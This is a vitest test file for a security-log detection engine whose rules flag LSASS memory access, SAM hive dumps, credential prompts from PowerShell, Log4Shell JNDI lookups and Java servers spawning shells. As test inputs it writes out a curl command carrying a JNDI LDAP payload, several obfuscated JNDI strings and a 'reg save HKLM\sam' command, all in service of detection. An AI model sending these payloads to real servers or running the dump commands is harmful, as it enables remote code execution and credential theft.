import { describe, expect, it } from "vitest";
import {
  DETECTION_RULES,
  DetectionEngine,
  evaluateRules,
  MAX_EVIDENCE,
  matches,
  parseDetectionRules,
} from "../../../../layers/core/security-logs/detection-rules";
import type { StoredSecurityEvent } from "../../../../layers/core/security-logs/security-event";

let seq = 0;
const ev = (fields: Partial<StoredSecurityEvent>): StoredSecurityEvent => {
  seq += 1;
  return {
    event_key: `k${seq}`,
    event_time: `2026-11-20T10:00:${String(seq % 60).padStart(2, "0")}.000000Z`,
    time_source: "UtcTime",
    layout: "evtx",
    host: "ws1",
    channel: "microsoft-windows-sysmon/operational",
    provider: "Microsoft-Windows-Sysmon",
    event_id: 1,
    user_name: null,
    process_image: null,
    command_line: null,
    parent_image: null,
    parent_command_line: null,
    source_ip: null,
    source_port: null,
    destination_ip: null,
    destination_port: null,
    extra: {},
    ...fields,
  };
};
const fired = (...events: StoredSecurityEvent[]) =>
  evaluateRules(DETECTION_RULES, events).map((d) => `${d.rule.id}:${d.rule.technique}`);

describe("the shipped rule set", () => {
  it("is valid, versioned and maps the four techniques of the datasets", () => {
    expect(DETECTION_RULES.version).toMatch(/^\d{4}-\d{2}-\d{2}\.\d+$/);
    expect(DETECTION_RULES.digest).toMatch(/^[0-9a-f]{16}$/);
    const techniques = new Set(DETECTION_RULES.rules.map((r) => r.technique));
    for (const t of ["T1003.001", "T1003.002", "T1056.002", "T1190"]) expect(techniques).toContain(t);
  });

  it("LSASS memory read → T1003.001, but not a harmless query of lsass", () => {
    const access = (mask: string) =>
      ev({
        event_id: 10,
        process_image: "C:\\Users\\x\\Dumpert.exe",
        extra: { TargetImage: "C:\\Windows\\System32\\lsass.exe", GrantedAccess: mask },
      });
    expect(fired(access("0x1FFFFF"))).toEqual(["lsass-memory-access:T1003.001"]);
    expect(fired(access("0x1000"))).toEqual([]);
    expect(
      fired(
        ev({
          event_id: 10,
          extra: { TargetImage: "C:\\Windows\\System32\\svchost.exe", GrantedAccess: "0x1fffff" },
        }),
      ),
    ).toEqual([]);
  });

  it("reg save of the SAM hive → T1003.002", () => {
    const reg = (cmd: string) =>
      ev({ event_id: 4688, process_image: "C:\\Windows\\System32\\reg.exe", command_line: cmd });
    expect(fired(reg('"C:\\windows\\system32\\reg.exe" save HKLM\\sam sam'))).toEqual([
      "sam-hive-dump:T1003.002",
    ]);
    expect(fired(reg("reg.exe export HKEY_LOCAL_MACHINE\\SYSTEM c:\\t\\sys.reg"))).toEqual([
      "sam-hive-dump:T1003.002",
    ]);
    expect(fired(reg("reg.exe query HKLM\\SAM"))).toEqual([]);
  });

  it("credui.dll in PowerShell → T1056.002; in explorer it is the normal dialog", () => {
    const load = (image: string) =>
      ev({ event_id: 7, process_image: image, extra: { ImageLoaded: "C:\\Windows\\System32\\credui.dll" } });
    expect(fired(load("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"))).toEqual([
      "credential-prompt-from-script-host:T1056.002",
    ]);
    expect(fired(load("C:\\Windows\\explorer.exe"))).toEqual([]);
  });

  it("JNDI lookups, plain and obfuscated, anywhere in the event → T1190 and CVE-2021-44228", () => {
    // Literal lookups as an attacker sends them, not templates.
    const lookups = [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup, the input under test
      "curl -H 'User-Agent: ${jndi:ldap://192.168.2.6:1389/o=reference}' http://app",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: an obfuscated lookup, the input under test
      "${${lower:j}ndi:ldap://x/a}",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: an obfuscated lookup, the input under test
      "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: an obfuscated lookup, the input under test
      "${j${::-n}di:dns://x}",
    ];
    for (const text of lookups) {
      const [d] = evaluateRules(DETECTION_RULES, [
        ev({ event_id: 4688, extra: { Nested: { UserAgent: [text] } } }),
      ]);
      expect(d?.rule).toMatchObject({
        id: "log4shell-jndi-lookup",
        technique: "T1190",
        cve: "CVE-2021-44228",
      });
    }
    expect(fired(ev({ command_line: "java -Dlog4j2.formatMsgNoLookups=true -jar app.jar" }))).toEqual([]);
  });

  it("a Java server starting a shell → T1190", () => {
    expect(
      fired(
        ev({
          event_id: 4688,
          parent_image:
            "C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\apache-tomcat-9.0.62\\bin\\tomcat9.exe",
          process_image: "C:\\Windows\\System32\\cmd.exe",
        }),
      ),
    ).toEqual(["java-server-spawns-shell:T1190"]);
    expect(fired(ev({ event_id: 1, parent_image: "/usr/bin/java", process_image: "/bin/bash" }))).toEqual([
      "java-server-spawns-shell:T1190",
    ]);
    expect(
      fired(
        ev({
          event_id: 1,
          parent_image: "C:\\Windows\\explorer.exe",
          process_image: "C:\\Windows\\System32\\cmd.exe",
        }),
      ),
    ).toEqual([]);
  });
});

describe("DetectionEngine", () => {
  it("groups by rule and host, counts every match and bounds the evidence kept", () => {
    const engine = new DetectionEngine();
    const lsass = {
      event_id: 10,
      extra: { TargetImage: "C:\\Windows\\System32\\lsass.exe", GrantedAccess: "0x1010" },
    };
    for (let i = 0; i < MAX_EVIDENCE + 5; i += 1) engine.observe(ev({ ...lsass, host: "ws1" }));
    engine.observe(ev({ ...lsass, host: "ws2", event_time: "2026-11-19T00:00:00.000000Z" }));
    const [ws1, ws2] = engine.detections();
    expect(ws1).toMatchObject({ host: "ws1", evidenceCount: MAX_EVIDENCE + 5 });
    expect(ws1?.evidence).toHaveLength(MAX_EVIDENCE);
    expect(ws2).toMatchObject({ host: "ws2", evidenceCount: 1, firstEventAt: "2026-11-19T00:00:00.000000Z" });
  });
});

describe("rule sets as data", () => {
  const rule = {
    id: "custom-rule",
    title: "t",
    description: "d",
    technique: "T1059.001",
    severity: "low",
    match: { all: [{ field: "event_id", equals: [4104] }, { not: { field: "host", startsWith: "lab-" } }] },
  };

  it("supports all/any/not, exists and any original field", () => {
    const set = parseDetectionRules({ version: "1", rules: [rule] });
    expect(evaluateRules(set, [ev({ event_id: 4104, host: "prod-1" })])).toHaveLength(1);
    expect(evaluateRules(set, [ev({ event_id: 4104, host: "lab-1" })])).toHaveLength(0);
    expect(matches({ field: "ScriptBlockText", exists: true }, ev({ extra: { ScriptBlockText: "x" } }))).toBe(
      true,
    );
    expect(matches({ field: "ScriptBlockText", exists: false }, ev({}))).toBe(true);
    expect(matches({ any: [{ field: "host", equals: ["WS1"] }] }, ev({}))).toBe(true);
  });

  it("refuses a bad rule, naming its path", () => {
    expect(() => parseDetectionRules({ version: "1", rules: [{ ...rule, technique: "T59" }] })).toThrow(
      /detection rules\.rules\[0\]\.technique/,
    );
    expect(() =>
      parseDetectionRules({
        version: "1",
        rules: [{ ...rule, match: { field: "host", equals: "a", contains: "b" } }],
      }),
    ).toThrow(/detection rules\.rules\[0\]\.match/);
    expect(() =>
      parseDetectionRules({ version: "1", rules: [{ ...rule, match: { field: "host", regex: "([" } }] }),
    ).toThrow(/detection rules\.rules\[0\]\.match/);
    expect(() => parseDetectionRules({ version: "1", rules: [rule, rule] })).toThrow(
      /duplicate rule id "custom-rule"/,
    );
  });
});
